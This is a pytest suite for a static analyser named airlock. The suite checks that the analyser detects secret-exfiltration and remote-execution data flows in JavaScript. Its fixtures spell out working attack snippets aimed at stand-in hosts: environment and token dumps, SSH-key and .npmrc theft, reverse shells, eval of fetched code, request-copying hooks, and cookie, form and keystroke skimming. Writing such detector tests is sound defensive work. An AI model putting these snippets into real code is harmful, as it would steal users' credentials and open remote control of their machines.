# ruff: noqa: E501 — JavaScript fixtures read best one statement a line
"""The per-file data-flow pass: each propagation step, sanitiser and sink kind, positive and negative."""

from __future__ import annotations

import pytest

from airlock.analysis.capabilities import analyze_source
from airlock.analysis.dataflow import FileFlows, Kind
from airlock.analysis.js import Dialect


def flows_of(code: str, path: str = "index.js") -> FileFlows:
    return analyze_source(path, code.encode(), Dialect.JAVASCRIPT).flows


def kinds(code: str) -> set[Kind]:
    return {f.source.kind for f in flows_of(code).flows}


HTTPS = "const https = require('https');\n"

# (id, code, expected source kind) — each reaches a sink through one propagation step.
POSITIVE = [
    (
        "stringify-env",
        HTTPS + "https.get('https://a.example.com/?' + JSON.stringify(process.env));",
        Kind.ENV_DUMP,
    ),
    (
        "spread-env",
        HTTPS + "const e = {...process.env};\nhttps.request({host: 'a.example.com'}).end(JSON.stringify(e));",
        Kind.ENV_DUMP,
    ),
    (
        "assign-env",
        HTTPS
        + "const e = Object.assign({}, process.env);\nhttps.get({host: 'a.example.com', headers: {x: e}});",
        Kind.ENV_DUMP,
    ),
    (
        "entries-env",
        "fetch('https://a.example.com', {method: 'POST', body: Object.entries(process.env).join()});",
        Kind.ENV_DUMP,
    ),
    (
        "env-as-value",
        "fetch('https://a.example.com', {method: 'POST', body: JSON.stringify({e: process.env})});",
        Kind.ENV_DUMP,
    ),
    (
        "buffer-module-from",
        "const buffer = require('buffer');\nconst send = (s) => fetch('https://a.example.com', {headers: {x: s}});\nfunction k(pair) { send(buffer.Buffer.from(pair.secretKey).toString('hex')); }",
        Kind.KEY_MATERIAL,
    ),
    (
        "for-in-env",
        "const o = {};\nfor (const k in process.env) o[k] = process.env[k];\nfetch('https://a.example.com', {body: JSON.stringify(o)});",
        Kind.ENV_DUMP,
    ),
    (
        "keys-foreach-env",
        "const o = [];\nObject.keys(process.env).forEach(k => o.push(process.env[k]));\nfetch('https://a.example.com', {body: o.join()});",
        Kind.ENV_DUMP,
    ),
    (
        "secret-env",
        HTTPS + "https.get('https://a.example.com/?t=' + process.env.NPM_TOKEN);",
        Kind.SECRET_ENV,
    ),
    (
        "template",
        HTTPS + "const t = process.env.NPM_TOKEN;\nhttps.get(`https://a.example.com/?t=${t}`);",
        Kind.SECRET_ENV,
    ),
    (
        "buffer-hex",
        HTTPS
        + "const k = Buffer.from(process.env.NPM_TOKEN).toString('hex');\nhttps.get('https://a.example.com/' + k);",
        Kind.SECRET_ENV,
    ),
    ("base64", "fetch('https://a.example.com/' + btoa(process.env.NPM_TOKEN));", Kind.SECRET_ENV),
    (
        "reassigned",
        "let s = '';\ns = process.env.NPM_TOKEN;\nfetch('https://a.example.com/' + s);",
        Kind.SECRET_ENV,
    ),
    (
        "push",
        "const a = [];\na.push(process.env.NPM_TOKEN);\nfetch('https://a.example.com/', {body: a.join(',')});",
        Kind.SECRET_ENV,
    ),
    (
        "member-assign",
        "const o = {};\no.t = process.env.NPM_TOKEN;\nfetch('https://a.example.com/', {body: JSON.stringify(o)});",
        Kind.SECRET_ENV,
    ),
    (
        "destructure",
        "const { t } = { t: process.env.NPM_TOKEN };\nfetch('https://a.example.com/' + t);",
        Kind.SECRET_ENV,
    ),
    (
        "helper-param",
        "function send(d) { fetch('https://a.example.com/', {body: d}); }\nsend(process.env.NPM_TOKEN);",
        Kind.SECRET_ENV,
    ),
    (
        "helper-return",
        "function get() { return process.env.NPM_TOKEN; }\nfetch('https://a.example.com/' + get());",
        Kind.SECRET_ENV,
    ),
    (
        "class-field",
        "class A { constructor() { this.k = process.env.NPM_TOKEN; } go() { fetch('https://a.example.com/' + this.k); } }\nnew A().go();",
        Kind.SECRET_ENV,
    ),
    (
        "cipher",
        "const c = require('crypto');\nconst x = c.createCipheriv('aes-256-cbc', k, iv);\nconst out = x.update(JSON.stringify(process.env), 'utf8', 'hex') + x.final('hex');\nfetch('https://a.example.com/', {body: out});",
        Kind.ENV_DUMP,
    ),
    (
        "gzip",
        "const z = require('zlib');\nfetch('https://a.example.com/', {body: z.gzipSync(JSON.stringify(process.env))});",
        Kind.ENV_DUMP,
    ),
    (
        "ssh-path-join",
        "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nfetch('https://a.example.com/', {body: k});",
        Kind.SECRET_FILE,
    ),
    (
        "read-callback",
        "const fs = require('fs');\nfs.readFile(require('os').homedir() + '/.ssh/id_rsa', (err, data) => { fetch('https://a.example.com/', {body: data}); });",
        Kind.SECRET_FILE,
    ),
    (
        "history",
        "const fs = require('fs');\nfetch('https://a.example.com/', {body: fs.readFileSync('/root/.bash_history')});",
        Kind.HISTORY,
    ),
    (
        "key-material",
        "function f(wallet) { fetch('https://a.example.com/', {body: wallet.privateKey}); }\nmodule.exports = f;",
        Kind.KEY_MATERIAL,
    ),
    (
        "env-through-function-this",
        "const g = Function('return this')();\nconst p = g['pro' + 'cess'];\n"
        "require('ht' + 'tps').get('https://a.example.com/?' + JSON.stringify(p.env));",
        Kind.ENV_DUMP,
    ),
    (
        "env-subscript-through-global-this",
        "const e = globalThis['pro' + 'cess']['env'];\nfetch('https://a.example.com/', {body: JSON.stringify(e)});",
        Kind.ENV_DUMP,
    ),
    (
        "env-destructured-from-hidden-process",
        "const { env } = global['pro' + 'cess'];\n"
        "fetch('https://a.example.com/', {body: JSON.stringify(env)});",
        Kind.ENV_DUMP,
    ),
    (
        "ids-identity",
        HTTPS + "const os = require('os');\nhttps.get('https://a.example.com/' + os.hostname());",
        Kind.IDENTITY,
    ),
]


@pytest.mark.parametrize(("code", "kind"), [(c, k) for _, c, k in POSITIVE], ids=[i for i, _, _ in POSITIVE])
def test_label_reaches_sink(code: str, kind: Kind) -> None:
    assert kind in kinds(code)


NEGATIVE = [
    (
        "unknown-call",
        "const cfg = loadConfig(process.env);\nfetch('https://a.example.com/', {body: JSON.stringify(cfg)});",
    ),
    (
        "hash",
        "const c = require('crypto');\nfetch('https://a.example.com/' + c.createHash('sha256').update(process.env.NPM_TOKEN).digest('hex'));",
    ),
    (
        "hmac",
        "const c = require('crypto');\nconst s = c.createHmac('sha256', process.env.AWS_SECRET_ACCESS_KEY).update('x').digest('hex');\nfetch('https://a.example.com/', {headers: {s}});",
    ),
    ("plain-env-name", "fetch('https://a.example.com/' + process.env.NODE_ENV);"),
    ("no-sink", "const fs = require('fs');\nfs.writeFileSync('out', JSON.stringify(process.env));"),
    (
        "tls-key-option",
        HTTPS
        + "const fs = require('fs');\nconst privateKey = fs.readFileSync('client.key');\nhttps.request({host: 'a.example.com', key: privateKey});",
    ),
    (
        "options-env",
        "function f(options) { fetch('https://a.example.com/', {body: JSON.stringify(options.env)}); }\nmodule.exports = f;",
    ),
    (
        "config-env-destructured",
        "const { env } = require('./config');\nfetch('https://a.example.com/', {body: JSON.stringify(env)});",
    ),
    ("env-keys-only", "fetch('https://a.example.com/', {body: Object.keys(process.env).length + ''});"),
    (
        "sign",
        "function f(w, m) { fetch('https://a.example.com/', {body: w.sign(m, w.privateKey)}); }\nmodule.exports = f;",
    ),
]


@pytest.mark.parametrize("code", [c for _, c in NEGATIVE], ids=[i for i, _ in NEGATIVE])
def test_no_flow(code: str) -> None:
    assert not flows_of(code).flows


SINKS = [
    (
        "http-request-write",
        "const h = require('http');\nconst r = h.request('http://a.example.com');\nr.write(process.env.NPM_TOKEN);",
    ),
    (
        "net-socket",
        "const net = require('net');\nconst s = net.connect(80, 'a.example.com');\ns.write(JSON.stringify(process.env));",
    ),
    (
        "dgram",
        "const d = require('dgram');\nconst s = d.createSocket('udp4');\ns.send(JSON.stringify(process.env), 53, 'a.example.com');",
    ),
    (
        "dns",
        "const dns = require('dns');\ndns.lookup(Buffer.from(process.env.NPM_TOKEN).toString('hex') + '.a.example.com', () => {});",
    ),
    (
        "xhr",
        "const x = new XMLHttpRequest();\nx.open('POST', 'https://a.example.com');\nx.send(JSON.stringify(process.env));",
    ),
    ("websocket", "const w = new WebSocket('wss://a.example.com');\nw.send(JSON.stringify(process.env));"),
    ("beacon", "navigator.sendBeacon('https://a.example.com', JSON.stringify(process.env));"),
    ("axios-post", "const axios = require('axios');\naxios.post('https://a.example.com', process.env);"),
    (
        "axios-instance",
        "const axios = require('axios');\nconst api = axios.create({baseURL: 'https://a.example.com'});\napi.post('/x', {e: process.env});",
    ),
    ("got", "import got from 'got';\ngot.post('https://a.example.com', {json: process.env});"),
    (
        "superagent-chain",
        "const sa = require('superagent');\nsa.post('https://a.example.com').send(JSON.stringify(process.env));",
    ),
    (
        "ws-package",
        "const WS = require('ws');\nconst w = new WS('wss://a.example.com');\nw.send(JSON.stringify(process.env));",
    ),
    (
        "socket-io",
        "const io = require('socket.io-client');\nconst s = io('https://a.example.com');\ns.emit('e', process.env);",
    ),
]


@pytest.mark.parametrize("code", [c for _, c in SINKS], ids=[i for i, _ in SINKS])
def test_sink_kinds(code: str) -> None:
    assert flows_of(code).flows


def test_destination_folds_constants() -> None:
    code = (
        HTTPS
        + "const host = 'api.' + 'example.com';\nhttps.get({hostname: host, path: '/' + process.env.NPM_TOKEN});"
    )
    (flow,) = flows_of(code).flows
    assert flow.sink.destination == "api.example.com"


def test_configured_destination_is_none() -> None:
    code = "fetch(process.env.URL, {headers: {a: process.env.ACME_TOKEN}});"
    (flow,) = flows_of(code).flows
    assert flow.sink.destination is None


@pytest.mark.parametrize(
    ("code", "load"),
    [
        ("fetch('https://a.example.com', {body: JSON.stringify(process.env)});", True),
        ("(function () { fetch('https://a.example.com', {body: JSON.stringify(process.env)}); })();", True),
        (
            "function go() { fetch('https://a.example.com', {body: JSON.stringify(process.env)}); }\ngo();",
            True,
        ),
        ("setTimeout(() => fetch('https://a.example.com', {body: JSON.stringify(process.env)}), 10);", True),
        (
            "function go() { fetch('https://a.example.com', {body: JSON.stringify(process.env)}); }\nmodule.exports = go;",
            False,
        ),
        (
            "const ws = new WebSocket('wss://a.example.com');\nws.onopen = () => ws.send(JSON.stringify(process.env));",
            True,
        ),
        (
            "function go() { const ws = new WebSocket('wss://a.example.com'); ws.onopen = () => ws.send(JSON.stringify(process.env)); }\nmodule.exports = go;",
            False,
        ),
        (
            "module.exports.onerror = function () { fetch('https://a.example.com', {body: JSON.stringify(process.env)}); };",
            False,
        ),
    ],
    ids=[
        "top-level",
        "iife",
        "called-from-top",
        "callback",
        "exported-only",
        "event-handler-property",
        "handler-set-in-uncalled-function",
        "exported-on-name",
    ],
)
def test_load_time(code: str, load: bool) -> None:
    (flow,) = flows_of(code).flows
    assert flow.sink.load_time is load


def test_exported_parameter_sink_is_symbolic() -> None:
    flows = flows_of("module.exports = function send(d) { fetch('https://a.example.com', {body: d}); };")
    assert [(p.export, p.index) for p in flows.param_sinks] == [("default", 0)]


def test_export_returns_source() -> None:
    flows = flows_of("exports.collect = () => JSON.stringify(process.env);")
    assert [(e.export, e.labels[0].kind) for e in flows.exports] == [("collect", Kind.ENV_DUMP)]


def test_budget_overrun_is_recorded() -> None:
    from airlock.analysis.capabilities import Budget

    code = (
        "function send(d) { fetch('https://a.example.com', {body: d}); }\n"
        + "send(process.env.NPM_TOKEN);\n" * 50
    )
    result = analyze_source("x.js", code.encode(), Dialect.JAVASCRIPT, budget=Budget(max_flow_steps=20))
    assert not result.flows.complete
    assert any("data-flow" in s.reason for s in result.skipped)


def test_destructured_request_is_a_sink() -> None:
    code = "const { request } = require('node:http');\nconst r = request({hostname: 'a.example.com'});\nr.end(JSON.stringify(process.env));"
    flows = flows_of(code)
    assert flows.sinks >= 2
    assert flows.flows


def test_curl_command_is_a_sink() -> None:
    code = (
        "const { execSync } = require('child_process');\n"
        "execSync('curl -s -d ' + JSON.stringify(process.env) + ' https://c.example.com/x');"
    )
    (flow,) = flows_of(code).flows
    assert flow.sink.destination == "c.example.com"


def test_command_without_network_tool_is_not_a_sink() -> None:
    code = "const { execSync } = require('child_process');\nexecSync('echo ' + JSON.stringify(process.env));"
    assert not flows_of(code).flows


@pytest.mark.parametrize(
    "code",
    [
        "const net = require('net'); const { exec } = require('child_process');\n"
        "const c = net.connect(4444, 'c2.example.com');\nc.on('data', (d) => exec(d.toString()));",
        "const https = require('https'); const cp = require('child_process');\n"
        "https.get('https://c2.example.com/t', (res) => res.on('data', (chunk) => cp.execSync(String(chunk))));",
        "const WS = require('ws'); const cp = require('child_process');\n"
        "const w = new WS('wss://c2.example.com');\nw.on('message', (m) => cp.spawn('sh', ['-c', m]));",
    ],
    ids=["net-socket", "https-response", "ws-message"],
)
def test_received_data_reaching_a_command(code: str) -> None:
    flows = flows_of(code).flows
    assert any(f.sink.executes and f.source.kind is Kind.REMOTE for f in flows)


def test_command_from_configuration_is_not_remote() -> None:
    code = (
        "const { exec } = require('child_process');\nconst net = require('net');\n"
        "module.exports = (cfg) => { net.connect(cfg.port); exec(cfg.command); };"
    )
    assert not [f for f in flows_of(code).flows if f.sink.executes]


def test_sink_cap_is_recorded(monkeypatch: pytest.MonkeyPatch) -> None:
    import airlock.analysis.dataflow.file as file_pass

    monkeypatch.setattr(file_pass, "MAX_SINKS", 2)
    code = (
        "fetch('https://a.example.com/1');\n" * 3
        + "fetch('https://a.example.com/', {body: JSON.stringify(process.env)});"
    )
    result = analyze_source("x.js", code.encode(), Dialect.JAVASCRIPT)
    assert not result.flows.complete
    assert any("network sinks" in s.reason for s in result.skipped)


def test_curl_options_env_is_not_sent() -> None:
    code = (
        "const { execSync } = require('child_process');\n"
        "execSync('curl -sLo bin.tgz https://dl.example.com/bin.tgz', { env: { ...process.env, A: '1' } });"
    )
    assert not flows_of(code).flows


@pytest.mark.parametrize(
    "code",
    [
        "const { request } = require('undici');\nrequest('https://a.example.com', {method: 'POST', body: JSON.stringify(process.env)});",
        "import { fetch as f } from 'undici';\nf('https://a.example.com', {method: 'POST', body: JSON.stringify(process.env)});",
        "import https from 'https';\nhttps.request({host: 'a.example.com'}).end(JSON.stringify(process.env));",
    ],
    ids=["undici-destructured", "undici-named-import", "esm-https"],
)
def test_client_bindings(code: str) -> None:
    assert flows_of(code, "index.mjs").flows


@pytest.mark.parametrize(
    "code",
    [
        "const WebSocket = require('ws');\nconst ws = new WebSocket('wss://c.example.com');\nws.on('message', (m) => new Function('require', m.toString())(require));",
        "const axios = require('axios');\n(async () => { const r = await axios.post('https://c.example.com/a', {}); eval(r.data.model); })();",
        "(async () => { const r = await fetch('https://c.example.com/s'); eval(await r.text()); })();",
        "fetch('https://c.example.com/m.js').then((r) => r.text()).then((code) => import('data:text/javascript,' + encodeURIComponent(code)));",
    ],
    ids=[
        "ws-message-to-function",
        "axios-response-to-eval",
        "fetch-text-to-eval",
        "fetch-text-to-data-url-import",
    ],
)
def test_code_compiled_from_network_data_is_a_remote_execution_flow(code: str) -> None:
    flows = flows_of(code).flows
    assert any(f.sink.executes and f.source.kind is Kind.REMOTE for f in flows), flows


@pytest.mark.parametrize(
    "code",
    [
        "(async () => { const r = await fetch('https://c.example.com/s'); const cfg = JSON.parse(await r.text()); console.log(cfg); })();",
        "const axios = require('axios');\naxios.get('https://c.example.com').then(() => eval('1 + 1'));",
        "fetch('https://c.example.com/locale').then((r) => r.text()).then((lang) => import('./locales/' + lang + '.js'));",
    ],
    ids=["fetch-json-parsed", "constant-eval-near-a-request", "module-path-chosen-by-the-server"],
)
def test_network_data_that_is_not_compiled_is_no_remote_execution(code: str) -> None:
    assert not [f for f in flows_of(code).flows if f.sink.executes]


def test_destructured_env_names_are_variables_not_the_whole_environment() -> None:
    plain = "const { GITHUB_REPOSITORY, GITHUB_RUN_ID } = process.env;\nfetch('https://pkg.example.com/p', {method: 'POST', body: JSON.stringify({ r: GITHUB_REPOSITORY, id: GITHUB_RUN_ID })});"
    assert kinds(plain) == set()
    secret = "const { NPM_TOKEN } = process.env;\nfetch('https://collect.example.net/p', {method: 'POST', body: NPM_TOKEN});"
    assert kinds(secret) == {Kind.SECRET_ENV}


RC = "const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"


@pytest.mark.parametrize(
    "code",
    [
        RC
        + "const WS = require('ws');\nconst ws = new WS('wss://c.example.invalid');\nws.on('open', function () { this.send(rc); });",
        RC
        + "const ws = new WebSocket('wss://c.example.invalid');\nws.onopen = function () { this.send(rc); };",
    ],
    ids=["listener-this", "handler-property-this"],
)
def test_this_in_a_function_listener_is_the_emitter(code: str) -> None:
    (flow,) = flows_of(code).flows
    assert flow.source.kind is Kind.SECRET_FILE
    assert flow.sink.destination == "c.example.invalid"
    assert flow.sink.load_time


@pytest.mark.parametrize(
    "code",
    [
        RC + "const ws = new WebSocket('wss://c.example.invalid');\nws.onopen = () => { this.send(rc); };",
        RC + "const e = new (require('events'))();\ne.on('ready', function () { this.send(rc); });",
        RC
        + "const WS = require('ws');\nconst ws = new WS('wss://c.example.invalid');\nws.on('open', function () { [1].forEach(function () { this.send(rc); }); });",
    ],
    ids=["arrow-has-the-outer-this", "emitter-is-not-network", "nested-function-has-its-own-this"],
)
def test_this_that_is_not_a_network_emitter_sends_nothing(code: str) -> None:
    assert not flows_of(code).flows


HOOK_HTTPS = "const https = require('https');\nconst orig = https.request;\n"


@pytest.mark.parametrize(
    "code",
    [
        HOOK_HTTPS
        + "https.request = function (opts, cb) {\n  orig.call(https, { host: 'c.example.invalid', method: 'POST' }).end(JSON.stringify(opts.headers));\n  return orig.apply(this, arguments);\n};",
        "const orig = globalThis.fetch;\nglobalThis.fetch = async (url, init) => {\n  if (init && init.body) orig('https://c.example.invalid/c', { method: 'POST', body: init.body });\n  return orig(url, init);\n};",
    ],
    ids=["https-request-headers-copied", "fetch-bodies-copied"],
)
def test_a_replaced_network_function_forwarding_the_applications_requests(code: str) -> None:
    (flow,) = [f for f in flows_of(code).flows if f.sink.destination is not None]
    assert flow.source.kind is Kind.INTERCEPTED
    assert flow.sink.destination == "c.example.invalid"
    assert flow.sink.load_time  # the hook is installed at load; the wrapper runs on every request


@pytest.mark.parametrize(
    "code",
    [
        # nock-style: answers from a table, sends nothing
        "const http = require('http');\nconst table = {};\nhttp.request = function (opts) { return table[opts.host]; };",
        # APM-style: times the request, stores a metric; a separate flush reports it
        HOOK_HTTPS
        + "const metrics = [];\nhttps.request = function (opts) {\n  const start = Date.now();\n  const req = orig.apply(this, arguments);\n  req.on('response', () => metrics.push({ host: opts.host, ms: Date.now() - start }));\n  return req;\n};\nexports.flush = () => fetch('https://collector.example.com/m', { method: 'POST', body: JSON.stringify(metrics) });",
        # a proxy agent: every request goes where the application sent it
        "const orig = globalThis.fetch;\nconst agent = {};\nglobalThis.fetch = (url, init) => orig(url, { ...init, dispatcher: agent });",
    ],
    ids=["mock-table", "apm-metrics-flushed-later", "proxy-agent"],
)
def test_a_wrapper_that_does_not_copy_requests_out_is_no_exfiltration(code: str) -> None:
    from airlock.analysis.dataflow.judge import is_exfiltration

    assert not [f for f in flows_of(code).flows if is_exfiltration(f)]


@pytest.mark.parametrize(
    ("code", "what"),
    [
        (
            "fetch('https://c.example.invalid/c', { method: 'POST', body: document.cookie });",
            "document.cookie",
        ),
        (
            "navigator.sendBeacon('https://c.example.invalid/b', localStorage.getItem('token'));",
            "localStorage",
        ),
        (
            "fetch('https://c.example.invalid/s', { method: 'POST', body: JSON.stringify(window.sessionStorage) });",
            "sessionStorage",
        ),
        (
            "document.addEventListener('submit', (e) => { fetch('https://c.example.invalid/f', { method: 'POST', body: new FormData(e.target) }); }, true);",
            "form contents",
        ),
        (
            "document.addEventListener('keydown', (e) => { fetch('https://c.example.invalid/k?k=' + e.key); });",
            "keystrokes",
        ),
        (
            "window.onkeypress = function (e) { navigator.sendBeacon('https://c.example.invalid/k', e.key); };",
            "keystrokes",
        ),
    ],
    ids=["cookie", "storage-item", "whole-session-storage", "form-submit", "keydown", "onkeypress"],
)
def test_page_secrets_sent_to_a_constant_host(code: str, what: str) -> None:
    from airlock.analysis.dataflow.judge import is_browser_theft

    (flow,) = [f for f in flows_of(code).flows if is_browser_theft(f)]
    assert flow.source.kind is Kind.BROWSER and flow.source.detail == what


@pytest.mark.parametrize(
    "code",
    [
        "fetch('/api/session', { headers: { cookie: document.cookie } });",
        "fetch(process.env.API_URL, { headers: { authorization: localStorage.getItem('token') } });",
        "document.cookie = 'seen=1';\nfetch('https://cdn.example.com/app.css');",
        "document.addEventListener('click', (e) => fetch('https://c.example.com/track?x=' + e.clientX));",
        "const theme = localStorage.getItem('theme');\ndocument.body.className = theme;",
        "const form = new FormData();\nform.append('file', new Blob(['report']));\nfetch('https://api.example.com/upload', { method: 'POST', body: form });",
        "const id = document.cookie.split('; ').find((c) => c.startsWith('_ga='));\nfetch('https://analytics.example.com/collect?cid=' + id);",
        "navigator.sendBeacon('https://events.example.com/e', localStorage.getItem('ph_distinct_id'));",
    ],
    ids=[
        "first-party-relative",
        "configured-endpoint",
        "cookie-written-not-read",
        "click-is-not-a-key",
        "no-request",
        "empty-form-data-is-an-upload-body",
        "analytics-cookie-id",
        "analytics-storage-id",
    ],
)
def test_page_data_that_stays_first_party(code: str) -> None:
    from airlock.analysis.dataflow.judge import is_browser_theft

    assert not [f for f in flows_of(code).flows if is_browser_theft(f)]


def test_a_shared_variable_filled_in_one_handler_and_sent_from_another() -> None:
    code = (
        "let buf = '';\n"
        "document.addEventListener('keydown', (e) => { buf += e.key; });\n"
        "setInterval(() => { if (buf) { fetch('https://c.example.invalid/k', { method: 'POST', body: buf }); buf = ''; } }, 5000);"
    )
    (flow,) = flows_of(code).flows
    assert flow.source.detail == "keystrokes" and flow.sink.load_time


def test_a_local_reassignment_of_a_clean_shared_variable_stays_clean() -> None:
    code = (
        "let last = 'none';\n"
        "document.addEventListener('click', () => { last = 'click'; });\n"
        "setInterval(() => { fetch('https://c.example.com/t', { method: 'POST', body: last }); last = ''; }, 5000);"
    )
    assert not flows_of(code).flows
